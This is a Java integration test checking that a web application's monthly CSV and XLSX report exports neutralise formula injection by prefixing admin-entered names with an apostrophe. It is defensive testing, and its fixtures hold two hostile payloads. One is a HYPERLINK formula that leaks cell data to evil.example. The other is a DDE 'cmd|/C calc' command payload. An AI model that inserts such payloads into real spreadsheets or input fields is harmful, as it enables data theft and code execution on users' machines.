package ru.otklik.reports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import jakarta.servlet.http.Cookie;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Timestamp;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import ru.otklik.support.IntegrationTest;
import ru.otklik.support.Sessions;

/**
 * Names an admin typed are data, never formulas: a department called {@code =HYPERLINK(…)} and a person called
 * {@code @SUM(…)} reach the monthly report's CSV and XLSX with a leading apostrophe (OWASP, CSV injection).
 */
@IntegrationTest
class FormulaSafeExportIT {

    static final String DEPARTMENT = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Отдел\")";
    static final String PERSON = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MONTH = "2024-07";

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    @BeforeEach
    void anAdminEnteredFormulaNamesAndTheirDepartmentAnsweredInJuly2024() throws Exception {
        synchronized (FormulaSafeExportIT.class) {
            if (jdbc.sql("select count(*) from app_user where login = 'formula.head'")
                            .query(Long.class)
                            .single()
                    > 0) {
                return;
            }
            Cookie admin = Sessions.login(mvc, "admin");
            mvc.perform(post("/admin/users")
                            .cookie(admin)
                            .with(csrf())
                            .param("login", "formula.head")
                            .param("fullName", PERSON)
                            .param("email", "")
                            .param("roles", "DEPT_HEAD", "EXECUTOR")
                            .param("password", "Formula-Safe-Export-2026!")
                            .param("enabled", "true")
                            .param("version", "0"))
                    .andExpect(status().is3xxRedirection());
            long person = id("select id from app_user where login = 'formula.head'");
            long curator = id("select id from app_user where login = 'deputy2'");
            mvc.perform(post("/admin/departments")
                            .cookie(admin)
                            .with(csrf())
                            .param("name", DEPARTMENT)
                            .param("headId", String.valueOf(person))
                            .param("curatorId", String.valueOf(curator))
                            .param("executorIds", String.valueOf(person))
                            .param("version", "0"))
                    .andExpect(status().is3xxRedirection());
            long department = jdbc.sql("select id from department where name = ?")
                    .param(DEPARTMENT)
                    .query(Long.class)
                    .single();
            Timestamp at = Timestamp.from(
                    OffsetDateTime.parse("2024-07-10T10:00:00+07:00").toInstant());
            // Answered in July too: a post left open would be open at the end of every later month, and
            // MonthlyReportIT counts the posts open at the end of March 2025.
            long postId = jdbc.sql("""
                    insert into post (external_id, source, url, text, detected_at, received_at, importance, state,
                                      closed_at, last_action_at)
                    values ('FORMULA-1', 'VK', 'https://vk.com/wall-1_7', 'Сообщение', ?, ?, 'NORMAL', 'ANSWERED', ?, ?)
                    returning id
                    """).params(at, at, at, at).query(Long.class).single();
            jdbc.sql("""
                    insert into assignment (post_id, department_id, executor_id, state, assigned_at, accepted_at)
                    values (?, ?, ?, 'ACCEPTED', ?, ?)
                    """).params(postId, department, person, at, at).update();
        }
    }

    @Test
    void theCsvWritesAdminEnteredNamesAsTextNotFormulas() throws Exception {
        String csv = new String(
                mvc.perform(get("/reports/monthly/export.csv")
                                .param("month", MONTH)
                                .cookie(Sessions.login(mvc, "minister")))
                        .andExpect(status().isOk())
                        .andReturn()
                        .getResponse()
                        .getContentAsByteArray(),
                StandardCharsets.UTF_8);

        List<String> cells = new ArrayList<>();
        for (String line : csv.split("\r\n")) {
            cells.addAll(List.of(line.split(";")));
        }
        assertThat(cells)
                .as("every cell that names the department or the person")
                .filteredOn(c -> c.contains("HYPERLINK") || c.contains("SUM(1+1)"))
                .isNotEmpty()
                .allSatisfy(c -> assertThat(c.startsWith("'") || c.startsWith("\"'"))
                        .as(c)
                        .isTrue());
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/").contains("'@SUM(1+1)");
    }

    @Test
    void theXlsxWritesAdminEnteredNamesAsTextNotFormulas() throws Exception {
        byte[] xlsx = mvc.perform(get("/reports/monthly/export.xlsx")
                        .param("month", MONTH)
                        .cookie(Sessions.login(mvc, "minister")))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();

        List<String> named = new ArrayList<>();
        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            String text = cell.getStringCellValue();
                            if (text.contains("HYPERLINK") || text.contains("SUM(1+1)")) {
                                named.add(text);
                            }
                        }
                    }
                }
            }
        }
        assertThat(named).contains("'" + DEPARTMENT, "'" + PERSON);
    }

    private long id(String sql) {
        return jdbc.sql(sql).query(Long.class).single();
    }
}
